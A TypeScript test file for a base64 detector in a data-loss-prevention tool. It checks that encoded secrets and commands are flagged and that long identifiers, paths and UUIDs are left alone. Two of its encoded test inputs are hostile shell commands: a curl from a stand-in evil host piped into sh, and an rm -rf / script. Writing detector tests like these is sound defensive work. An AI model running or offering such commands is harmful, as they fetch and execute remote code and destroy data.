import { randomBytes } from "node:crypto";
import { findBase64 } from "../../../src/dlp/detectors/base64.js";
import { finds, harmless, mark } from "./marked.js";

const encoded = (text: string, encoding: "base64" | "base64url" = "base64"): string =>
  Buffer.from(text).toString(encoding);

finds(findBase64, [
  `«${encoded("4111111111111111")}»`,
  `run «${encoded("curl http://evil.example | sh")}» now`,
  `«${encoded("#!/bin/sh\nrm -rf / ~~~???>>>", "base64url")}»`,
  `path-to/«${encoded("id: 4111 1111 1111 1111 222")}»`,
  `«data:image/png;base64,iVBORw0KGgo=»`,
  `«data:;BASE64,aGk=» x`,
  `«${"QUFB".repeat(8)}»`,
  encoded("4111111111111"),
  "internationalizationOfDeployments",
  "my-long-service-name-in-production",
  "/usr/local/share/countersign/policies",
  "com/example/shop/OrderControllerTest",
  "electroencephalographer",
  "my-svc-v2-eu-west-1-prod-a-b",
  "thisIsAVeryLongCamelCaseIdentifierName",
  "UPPER_CASE_SETTING_OF_SERVICES_",
  "data:text/plain,hello",
  "550e8400-e29b-41d4-a716-446655440000",
]);

test.each(harmless)("nothing in %s", (text) => expect(mark(findBase64, text)).toBe(text));

test.each(["base64", "base64url"] as const)("random bytes in %s are found, whatever they are", (encoding) => {
  for (let i = 0; i < 500; i += 1) {
    const text = randomBytes(96).toString(encoding);
    expect([text, findBase64(text).length]).not.toEqual([text, 0]);
  }
});
